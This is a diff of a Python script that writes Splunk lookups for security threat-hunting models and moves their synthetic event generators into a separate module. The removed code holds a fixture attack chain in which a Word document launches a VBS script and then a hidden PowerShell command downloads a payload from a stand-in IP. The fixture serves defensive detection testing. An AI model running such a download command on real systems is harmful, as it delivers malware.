@@ -9,14 +9,15 @@ import os
 from pathlib import Path
 from typing import Any
 
-import numpy as np
 import pandas as pd
 
-from app.sample import SAMPLE
 from app.sample.enrichment import FEEDS, GEO
+from splunk_app import made_up
 
 LOOKUPS = Path(__file__).parent / "dsdl_hunt" / "lookups"
 _DECIMALS = 3
+_TIMES = ["_time", "count", "host"]
+_ACCESS = ["user", "LogonType", "ProcessName"]
 _LEARNED = 20  # of the forty commands: the others may be new
 
 
@@ -24,76 +25,22 @@ def main() -> None:
     """Write a lookup for each model below, one of events, and one of places."""
     os.environ |= {"HUNT_FEEDS": str(FEEDS), "HUNT_GEO": str(GEO)}
     LOOKUPS.mkdir(parents=True, exist_ok=True)
-    events = commands()
+    events = made_up.commands()
     _write("events", events)
     decoded = _answer("powershell_ioc", events, ["command", "_time", "host"], learned=_LEARNED)
     _write("powershell_ioc", decoded)
     _write("places", _places(decoded["ioc_ipv4"]))
-    _write("timeseries_anomaly", _answer("timeseries_anomaly", *_logons(), by="host"))
-    _write("outliers", _answer("outliers", *_sessions(), contamination="0.02"))
-    starts = process_starts()
+    _write("ip_context", _destinations(decoded))
+    series = made_up.logons()
+    _write("timeseries_anomaly", _answer("timeseries_anomaly", series, _TIMES, by="host"))
+    traits = ["bytes", "duration", "app", "user"]
+    _write("outliers", _answer("outliers", made_up.transfers(), traits, contamination="0.02"))
+    starts = made_up.process_starts()
     _write("process_tree", _answer("process_tree", starts, list(starts.columns)))
-
-
-def commands() -> pd.DataFrame:
-    """The bundled sample, its times as seconds since 1970."""
-    events = pd.read_csv(SAMPLE).rename(columns={"ParentCommandLine": "command"})
-    seconds = pd.to_datetime(events["_time"]).map(pd.Timestamp.timestamp).astype(int)
-    return events.assign(_time=seconds)
-
-
-def process_starts() -> pd.DataFrame:
-    """Usual programs on three hosts for twenty hours, and a document that starts a script."""
-    usual = [("explorer.exe", "outlook.exe"), ("explorer.exe", "winword.exe"),
-             ("svchost.exe", "dllhost.exe")]  # fmt: skip
-    rows = [
-        (3600 * hour, f"WKS-01{n}", 100 * n + k, 100 * n, parent, image, image)
-        for hour in range(20)
-        for n in (4, 5, 6)
-        for k, (parent, image) in enumerate(usual, 1)
-    ]
-    script = "wscript.exe C:\\Users\\Public\\invoice.vbs"
-    fetch = "powershell -w hidden -c iwr http://203.0.113.60/load -o x"
-    rows += [
-        (70_000, "WKS-015", 777, 502, "winword.exe", "wscript.exe", script),
-        (70_001, "WKS-015", 778, 777, "wscript.exe", "powershell.exe", fetch),
-    ]
-    names = ["_time", "host", "ProcessId", "ParentProcessId", "ParentImage", "Image", "CommandLine"]
-    starts = pd.DataFrame(rows, columns=names)
-    return starts.assign(_time=starts["_time"] + int(commands()["_time"].min()))
-
-
-def _logons() -> tuple[pd.DataFrame, list[str]]:
-    """Two weeks of logons per hour on two hosts, with a spike and an outage."""
-    hours = pd.date_range("2026-02-16", periods=14 * 24, freq="h", tz="UTC")
-    day = 1 + np.sin((hours.hour.to_numpy() - 9) / 24 * 2 * np.pi)
-    usual = np.where(hours.dayofweek.to_numpy() > 4, 40, 100) * day + 20
-    rng = np.random.default_rng(11)
-    seconds = hours.map(pd.Timestamp.timestamp).astype(int)
-    series = [
-        pd.DataFrame({"_time": seconds, "host": host, "count": rng.poisson(usual)})
-        for host in ("dc01.example.com", "dc02.example.com")
-    ]
-    series[0].loc[200, "count"] += 150
-    series[1].loc[300, "count"] = 0
-    return pd.concat(series, ignore_index=True), ["_time", "count", "host"]
-
-
-def _sessions() -> tuple[pd.DataFrame, list[str]]:
-    """300 sessions, of which one is huge, and one has an application that nobody else uses."""
-    rng = np.random.default_rng(7)
-    sessions = pd.DataFrame(
-        {
-            "_time": int(commands()["_time"].min()) + 120 * np.arange(300),
-            "bytes": rng.lognormal(8, 0.5, 300).round().astype(int),
-            "duration": rng.exponential(3, 300).round(2),
-            "app": rng.choice(["http", "dns"], 300, p=[0.8, 0.2]),
-            "user": rng.choice(["a.novak", "m.keller", "s.lind"], 300),
-        }
-    )
-    sessions.loc[110, "bytes"] = 50_000_000
-    sessions.loc[220, "app"] = "rdp"
-    return sessions, ["bytes", "duration", "app", "user"]
+    _write("beaconing", _answer("beaconing", made_up.connections(), ["_time", "host", "dest"]))
+    _write("rare_sessions", _sessions())
+    accesses = made_up.accesses()
+    _write("event_clusters", _answer("event_clusters", accesses, _ACCESS))
 
 
 def _answer(
@@ -108,6 +55,23 @@ def _answer(
     answer = module.apply(model, asked, param)
     answer = answer[[name for name in answer.columns if name not in events.columns]]
     return pd.concat([events, answer], axis=1)
+
+
+def _sessions() -> pd.DataFrame:
+    """What users start, cut into sessions."""
+    activities = made_up.activities()
+    fields = ["_time", "host", "user", "Image"]
+    return _answer("rare_sessions", activities, fields, event="Image", by="user,host", gap="1800")
+
+
+def _destinations(decoded: pd.DataFrame) -> pd.DataFrame:
+    """Each address that a host contacts, with its network and place."""
+    contacts = decoded[["_time", "host", "ioc_ipv4"]].rename(columns={"ioc_ipv4": "dest_ip"})
+    contacts = contacts.assign(dest_ip=contacts["dest_ip"].str.split("|")).explode("dest_ip")
+    grouped = contacts[contacts["dest_ip"].str.len() > 0].groupby("dest_ip")
+    asked = grouped.agg(_time=("_time", "min"), hosts=("host", "nunique"), count=("host", "size"))
+    # `source` is where the finding came from, in Splunk.
+    return _answer("ip_context", asked.reset_index(), ["dest_ip"]).drop(columns="source")
 
 
 def _places(addresses: pd.Series) -> pd.DataFrame:
